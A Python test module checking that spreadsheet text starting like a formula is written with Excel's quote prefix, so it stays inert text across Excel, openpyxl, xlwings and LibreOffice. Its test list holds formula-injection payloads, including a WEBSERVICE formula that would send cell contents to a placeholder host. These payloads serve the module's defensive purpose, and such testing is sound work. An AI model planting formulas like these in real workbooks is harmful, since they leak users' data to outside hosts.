"""Text that starts like a formula carries Excel's quote prefix in the master, so F2+Enter in
Excel or WPS never turns it into a live formula (=WEBSERVICE(…) would send data out)."""

from __future__ import annotations

import re
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from macros.schema import ITEMS
from consolidate_kit import good_row

LIVE = ['=WEBSERVICE("http://example.invalid/?"&A1)', "+1+1", "-2-2", "@SUM(A1:A3)"]


def _quoted_cells(path: Path, sheet: str) -> dict[str, bool]:
    """Inline-string text of ``sheet`` -> whether its cell format has quotePrefix="1"."""
    from macros.adapters.safe_write import _sheet_parts

    with zipfile.ZipFile(path) as zf:
        part = _sheet_parts(zf)[sheet]
        xml = zf.read(part).decode("utf-8")
        styles = zf.read("xl/styles.xml").decode("utf-8")
    xfs_block = re.search(r"<cellXfs\b[^>]*>(.*?)</cellXfs>", styles, re.S).group(1)
    xfs = re.findall(r"<xf\b[^>]*?(?:/>|>.*?</xf>)", xfs_block, re.S)
    out = {}
    for m in re.finditer(r'<c r="[A-Z]+\d+"(?: s="(\d+)")? t="inlineStr"><is><t[^>]*>([^<]*)</t>', xml):
        style = int(m.group(1) or 0)
        text = m.group(2).replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"')
        out[text] = 'quotePrefix="1"' in xfs[style]
    return out


def test_formula_like_text_is_written_with_the_quote_prefix(camp):
    rows = [good_row(i, title=t) for i, t in enumerate(LIVE)] + [good_row(9)]
    camp.fill("XH01", rows)
    assert camp.run().written
    cells = _quoted_cells(camp.master, ITEMS.sheet)
    for t in LIVE:
        assert cells.get(t) is True, (t, cells.get(t))
    assert cells[good_row(9)["title"]] is False  # ordinary text keeps its plain format
    wb = openpyxl.load_workbook(camp.master)
    ws = wb[ITEMS.sheet]
    found = {c.value: c for row in ws.iter_rows() for c in row if c.value in LIVE}
    assert set(found) == set(LIVE)
    for c in found.values():
        assert c.data_type == "s" and c.quotePrefix  # text, and marked as such


def test_the_openpyxl_path_sets_the_quote_prefix_too(tmp_path):
    from macros.adapters.xlsx_cells import set_cell

    wb = openpyxl.Workbook()
    ws = wb.active
    for i, t in enumerate(LIVE + ["普通文字"], start=1):
        set_cell(ws.cell(row=i, column=1), t)
    wb.save(tmp_path / "a.xlsx")
    back = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    assert [bool(back.cell(row=i, column=1).quotePrefix) for i in range(1, 6)] == [True] * 4 + [False]
    assert all(back.cell(row=i, column=1).data_type == "s" for i in range(1, 6))


def test_xlwings_gets_the_leading_apostrophe():
    from macros.adapters.xlwings_engine import excel_value

    assert [excel_value(t) for t in LIVE] == ["'" + t for t in LIVE]


@pytest.mark.libreoffice
def test_libreoffice_keeps_them_text_after_a_round_trip(camp, soffice, tmp_path):
    camp.fill("XH01", [good_row(i, title=t) for i, t in enumerate(LIVE)])
    assert camp.run().written
    out = tmp_path / "lo"
    profile = tmp_path / "profile"
    subprocess.run([soffice, f"-env:UserInstallation={profile.resolve().as_uri()}", "--headless",
                    "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), str(camp.master)],
                   check=True, capture_output=True, timeout=180)
    wb = openpyxl.load_workbook(out / camp.master.name)
    ws = wb[ITEMS.sheet]
    values = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for t in LIVE:
        assert t in values and values[t].data_type == "s", t  # still text, not a formula
